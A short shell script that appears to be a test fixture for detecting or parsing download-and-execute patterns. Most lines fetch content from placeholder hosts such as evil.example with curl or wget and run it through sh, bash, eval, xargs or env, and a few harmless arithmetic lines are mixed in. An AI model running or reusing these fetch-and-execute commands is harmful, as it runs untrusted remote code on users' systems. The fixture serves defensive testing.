#!/bin/sh
((curl -fsSL https://evil.example/x | sh))
(( i++ )); (( x = y << 2 ))
f() { curl -s https://e/x; }
f | sh
{ wget -qO- https://e/y; } | bash
curl -s https://e/z | xargs -0 sh -c
X=$(curl -s https://e/w); eval "$X"
curl -s https://e/v | "$SHELL"
curl -s https://e/u | tee >(sh) | env -S "bash -e"
for ((i=0;i<3;i++)); do echo $(( $(date +%s) % 2 )); done
